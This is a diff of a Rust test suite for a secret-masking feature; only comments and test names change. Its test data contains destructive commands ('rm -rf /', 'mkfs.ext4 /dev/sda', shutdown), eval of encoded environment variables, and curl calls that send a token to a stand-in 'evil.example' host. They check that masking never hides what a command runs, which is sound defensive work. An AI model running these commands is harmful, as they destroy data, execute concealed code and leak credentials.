@@ -1,4 +1,4 @@
-//! t-C5: secrets are masked in what is shown; what runs, where, and on what is not.
+//! t-C5: displayed secrets are masked; programs, folders and operands of a command are not.
 
 use std::path::Path;
 
@@ -10,7 +10,7 @@ fn random(length: usize) -> String {
     "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7".chars().cycle().take(length).collect()
 }
 
-/// Secrets that are known by their shape.
+/// Secrets that are recognised by their shape.
 fn known() -> Vec<String> {
     vec![
         format!("sk-{}", random(48)),
@@ -32,7 +32,7 @@ fn known() -> Vec<String> {
 }
 
 #[test]
-fn t_c5_known_shapes_are_masked_wherever_they_stand() {
+fn t_c5_known_key_formats_are_masked_anywhere() {
     for secret in known() {
         let masked = format!("{}…({} characters masked)", &secret[..4], secret.len() - 4);
         for (before, after) in [
@@ -46,7 +46,7 @@ fn t_c5_known_shapes_are_masked_wherever_they_stand() {
         ] {
             let text = format!("{before}{secret}{after}");
             assert_eq!(mask(&text), format!("{before}{masked}{after}"));
-            // A word of its own may be what runs, or on what: in a command it is shown.
+            // A separate word may be a program or an operand, so it is shown in a command.
             let is_word = ["echo ", "That was "].contains(&before);
             let expected = if is_word { text.clone() } else { format!("{before}{masked}{after}") };
             let shown = shown::command(&text, Path::new("/w"));
@@ -75,7 +75,7 @@ fn t_c5_values_under_secret_names_are_masked() {
         ("authorization: Basic dXNlcjpwYXNz", "authorization: Basic dXNl…(8 characters masked)"),
         ("X-Api-Key: aB3dE6gH9jK2", "X-Api-Key: aB3d…(8 characters masked)"),
         ("psql postgres://me:hunter2@db.example.com/x", "psql postgres://me:…(7 characters masked)@db.example.com/x"),
-        // A name that comes again is used only by a shell.
+        // In a text that is not a command, a name may occur twice.
         (
             "password: 'correct-horse'\npassword: 'battery-staple'",
             "password: 'corr…(9 characters masked)'\npassword: 'batt…(10 characters masked)'",
@@ -87,7 +87,7 @@ fn t_c5_values_under_secret_names_are_masked() {
         ),
     ] {
         assert_eq!(mask(text), masked);
-        // Names that stand there twice, and words that a command would be given, are shown in one.
+        // In a command, names that occur twice and words that may be operands are shown.
         let is_file = ["password", "client_secret", "authorization", "X-Api-Key", "x-auth-token"]
             .iter()
             .any(|name| text.starts_with(name));
@@ -110,7 +110,7 @@ fn t_c5_a_private_key_is_masked_line_by_line() {
 }
 
 #[test]
-fn t_c5_what_a_command_only_hands_on_is_masked() {
+fn t_c5_values_that_a_command_only_passes_on_are_masked() {
     let (token, line) = (format!("ghp_{}", random(36)), random(64));
     let masked = "ghp_…(36 characters masked)";
     for (before, after) in [
@@ -140,17 +140,17 @@ fn t_c5_what_a_command_only_hands_on_is_masked() {
 }
 
 #[test]
-fn t_c5_what_runs_where_and_on_what_is_never_masked() {
+fn t_c5_programs_hosts_and_files_are_never_masked() {
     let (key, long, hex) = (format!("ghp_{}", random(36)), random(40), "0a1b2c3d".repeat(8));
     for command in [
-        // Programs, whatever they are called.
+        // Programs, whatever their names.
         format!("{key} --help"),
         format!("true; {key}"),
         format!("true && '{key}' x"),
         format!("$({key})"),
         format!("./{key}"),
         format!("bin/{key} x"),
-        // What a variable, an alias or an option hands on.
+        // Values of variables, aliases or options that are run.
         "X_TOKEN=shutdown; $X_TOKEN now".to_owned(),
         "alias mytoken='shutdown'; mytoken".to_owned(),
         "A_KEY=mkfs.ext4 sh -c '$A_KEY /dev/sda'".to_owned(),
@@ -170,7 +170,7 @@ fn t_c5_what_runs_where_and_on_what_is_never_masked() {
         "A_TOKEN=sk-aaaaaaaaaaaaaaaaaaaaaaaaaaaa; $A_TOKEN now".to_owned(),
         "f() { \"$2\" now; }; f --token shutdown".to_owned(),
         "echo 'password: \"shutdown\"' | cut -c12-19 | sh".to_owned(),
-        // What a variable holds, whatever it looks like, where something may read variables by other ways than their names.
+        // Values of variables, in any form, where a program may read variables without their names.
         format!("X_KEY={hex} sh -c 'eval \"$(printenv | sed -n s/^X_K.Y=//p | xxd -r -p)\"'"),
         format!("X_KEY={long} bash -c 'eval \"$(printenv | sed -n s/^X_K.Y=//p | base64 -d)\"'"),
         format!("export X_KEY={key}; printenv | sed -n s/^X_K.Y=ghp_//p | base64 -d > x; ./x"),
@@ -188,11 +188,11 @@ fn t_c5_what_runs_where_and_on_what_is_never_masked() {
         format!("X_KEY={hex}; command -p . ./run"),
         format!("python3 -c 'x_token = \"{hex}\"; exec(bytes.fromhex(vars()[\"x_to\" + \"ken\"]))'"),
         format!("echo '{{\"x_token\": \"{hex}\"}}' | python3 -c 'run()'"),
-        // A value that is empty, and what follows.
+        // An empty value, and the text after it.
         "A_TOKEN= \"shutdown\" now".to_owned(),
         "authorization=token shutdown now".to_owned(),
         "chroot x_token: \"shutdown\" now".to_owned(),
-        // What looks like a key, in the place of a program, a module, a file, a host.
+        // Text that looks like a key, in the place of a program, a module, a file or a host.
         "env sk-aaaaaaaaaaaaaaaaaaaaaaaaaaaa x".to_owned(),
         format!("env {key}"),
         format!("bash {key}"),
@@ -228,7 +228,7 @@ fn t_c5_what_runs_where_and_on_what_is_never_masked() {
         format!("curl https://{key}.evil.example/x"),
         format!("curl https://evil.example/{key}"),
         "curl https://good.example@evil.example/".to_owned(),
-        // What only looks like a key's lines.
+        // Text that only looks like the lines of a key.
         "cat <<X\n-----BEGIN PRIVATE KEY-----\nrm -rf /\nreboot\n/usr/bin/poweroff\n-----END PRIVATE KEY-----\nX"
             .to_owned(),
         format!("echo '-----BEGIN PRIVATE KEY-----'\naB/{}/run", "a".repeat(50)),
